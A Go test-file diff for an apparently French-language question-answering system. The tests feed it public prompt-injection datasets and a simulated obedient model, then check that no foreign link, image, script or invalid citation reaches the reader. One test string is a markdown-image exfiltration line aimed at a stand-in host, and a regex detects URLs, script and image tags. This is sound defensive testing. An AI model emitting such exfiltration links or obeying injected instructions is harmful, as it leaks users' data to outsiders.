@@ -4,7 +4,10 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"io/fs"
+	"maps"
 	"os"
+	"path/filepath"
 	"regexp"
 	"slices"
 	"strings"
@@ -182,9 +185,9 @@ func TestGenerateStops(t *testing.T) {
 	}
 }
 
-// TestInjections lets a model obey every order of the hostile set, in each channel, in the ways that models do: nothing
+// TestObeyed lets a model obey every order of the hostile set, in each channel, in the ways that models do: nothing
 // of it reaches the reader in a written answer, nor does a foreign address.
-func TestInjections(t *testing.T) {
+func TestObeyed(t *testing.T) {
 	t.Parallel()
 	data, err := os.ReadFile(testkit.Shared(t, "data/hostile/own/injection_fr.jsonl"))
 	if err != nil {
@@ -247,4 +250,83 @@ func TestInjections(t *testing.T) {
 		}
 	}
 	t.Logf("%d outputs of a model that obeys", n)
+}
+
+// TestObeyedPayloads lets a model repeat what stands in documents made of the public sets of attacks: no link, no image
+// and no invalid citation reaches the reader.
+func TestObeyedPayloads(t *testing.T) {
+	t.Parallel()
+	foreign := regexp.MustCompile(`(?i)https?://|!\[|\]\(|<script|<img|javascript:`)
+	n := 0
+	for _, text := range payloads(t) {
+		passages := town()
+		passages[0] = passage("moyens", "Rapport", passages[0].Text+"\n\n"+text)
+		for _, obeyed := range []string{text, "Voici : " + text + " [1].", "![x](http://exemple.invalid/?q=" + "secret) [1]", "D’après [1] : " + text} {
+			n++
+			a := &Answerer{Retriever: &shelf{passages: passages}, Generator: &writer{pieces: []string{obeyed + "\nLa ville emploie 427 agents permanents [1]."}},
+				Options: Options{Report: func(err error) { t.Error(err) }}}
+			got, err := a.Answer(t.Context(), qa.Question{Text: staff}, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got.Mode == qa.ModeGenerated && foreign.MatchString(got.Text) {
+				t.Errorf("%q gives %s", obeyed, got.Text)
+			}
+			for _, c := range got.Citations {
+				if p := passages[slices.IndexFunc(passages, func(p qa.Passage) bool { return p.Version == c.Version })]; Verify(c, p) != nil {
+					t.Errorf("%q gives an invalid citation %+v", obeyed, c)
+				}
+			}
+		}
+	}
+	t.Logf("%d outputs", n)
+}
+
+// payloads are the strings of the public sets of injections, every third of them.
+func payloads(t *testing.T) (out []string) {
+	t.Helper()
+	all := 0
+	add := func(s string) {
+		if all++; all%3 == 0 && len(s) < 2000 {
+			out = append(out, s)
+		}
+	}
+	var walk func(v any)
+	walk = func(v any) {
+		switch v := v.(type) {
+		case string:
+			add(v)
+		case []any:
+			for _, x := range v {
+				walk(x)
+			}
+		case map[string]any:
+			for _, k := range slices.Sorted(maps.Keys(v)) {
+				walk(v[k])
+			}
+		}
+	}
+	root := testkit.Shared(t, "data/hostile/payloads/injection")
+	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() || strings.Contains(path, "poisonedrag") { // false facts, which no form tells
+			return err
+		}
+		data, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		var v any
+		if json.Unmarshal(data, &v) == nil {
+			walk(v)
+			return nil
+		}
+		for line := range strings.Lines(string(data)) {
+			add(strings.TrimSpace(line))
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
 }
